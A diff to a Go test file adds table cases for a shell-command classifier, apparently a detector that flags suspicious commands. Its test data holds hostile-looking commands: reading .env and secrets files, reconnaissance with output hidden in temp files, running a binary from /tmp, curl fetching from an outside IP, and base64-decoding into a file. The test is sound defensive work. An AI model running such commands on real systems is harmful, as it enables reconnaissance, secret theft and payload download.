@@ -156,6 +156,15 @@ var classifyCases = []struct {
 	// files named for secrets
 	{"cat /srv/app/.env", classSuspicious},
 	{"cat config/secrets.yml", classSuspicious},
+	// output written to a temporary file to be read back says nothing of
+	// the command; a program run from there, or fetched into it, does
+	{"exec >/var/tmp/storefront-cache/.q 2>&1; id; uname -srm; ls -la /var/www /var/tmp", classNone},
+	{"id > /tmp/o.txt 2>&1", classNone},
+	{"uname -a 2>/dev/null >>'/dev/shm/x'", classNone},
+	{"exec >/var/tmp/.q 2>&1; sudo -n -l", classSuspicious},
+	{"/tmp/.x/run > /tmp/o", classSuspicious},
+	{"curl -s http://203.0.113.7/a > /tmp/a", classSuspicious},
+	{"echo x | base64 -d > /tmp/b", classSuspicious},
 }
 
 func TestClassify(t *testing.T) {
